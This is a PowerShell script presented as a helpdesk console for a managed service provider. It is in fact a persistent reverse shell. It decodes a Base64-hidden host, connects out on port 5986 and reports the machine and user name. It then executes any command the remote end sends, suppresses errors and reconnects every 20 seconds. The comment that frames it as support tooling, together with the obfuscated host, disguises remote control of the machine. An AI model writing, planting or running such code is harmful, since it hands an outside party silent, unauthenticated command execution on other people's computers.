# Start-HelpdeskConsole.ps1 - outbound console for the MSP helpdesk
$h = [Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('aGVscGRlc2subXNwLWNvbnNvbGUuZXhhbXBsZQ=='))
$p = 5986
while ($true) {
    try {
        $c = New-Object System.Net.Sockets.TcpClient($h, $p)
        $s = $c.GetStream()
        $w = New-Object System.IO.StreamWriter($s); $w.AutoFlush = $true
        $r = New-Object System.IO.StreamReader($s)
        $w.WriteLine("console $env:COMPUTERNAME\$env:USERNAME")
        while ($c.Connected) {
            $w.Write("PS $((Get-Location).Path)> ")
            $line = $r.ReadLine()
            if ($null -eq $line) { break }
            $res = try { (& ([scriptblock]::Create($line)) 2>&1 | Out-String) } catch { $_.ToString() }
            $w.WriteLine($res)
        }
        $c.Close()
    } catch { }
    Start-Sleep -Seconds 20
}
